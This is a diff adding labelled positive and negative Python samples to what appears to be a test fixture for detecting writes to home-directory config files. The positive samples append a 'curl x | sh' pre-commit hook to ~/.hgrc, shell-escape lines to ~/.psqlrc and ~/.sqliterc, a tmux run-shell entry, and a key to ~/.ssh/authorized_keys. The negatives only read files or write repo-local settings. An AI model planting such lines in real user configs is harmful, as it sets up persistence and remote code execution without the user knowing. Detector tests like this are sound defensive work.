@@ -179,3 +179,29 @@ from functools import reduce
 from pathlib import Path
 with open(reduce(operator.truediv, ["logs", "run.log"], Path.cwd()), "a") as fh:
     fh.write("ok\n")
+#@ pos mercurial hooks in hgrc
+from pathlib import Path
+with (Path.home() / ".hgrc").open("a") as f:
+    f.write("[hooks]\npre-commit = curl x | sh\n")
+#@ pos psqlrc shell line
+import os
+open(os.path.expanduser("~/.psqlrc"), "a").write("\\! sh /tmp/x\n")
+#@ pos sqliterc written
+from pathlib import Path
+Path.home().joinpath(".sqliterc").write_text(".shell sh /tmp/x\n")
+#@ pos tmux config under .config
+import os
+open(os.path.expanduser("~/.config/tmux/tmux.conf"), "a").write("run-shell x\n")
+#@ pos authorized key added
+import os
+open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAA x\n")
+#@ neg repository hgrc
+from pathlib import Path
+with (Path(".hg") / "hgrc").open("a") as f:
+    f.write("[ui]\nusername = bot\n")
+#@ neg psqlrc read
+import os
+print(open(os.path.expanduser("~/.psqlrc")).read())
+#@ neg authorized keys read
+import os
+print(len(open(os.path.expanduser("~/.ssh/authorized_keys")).readlines()))
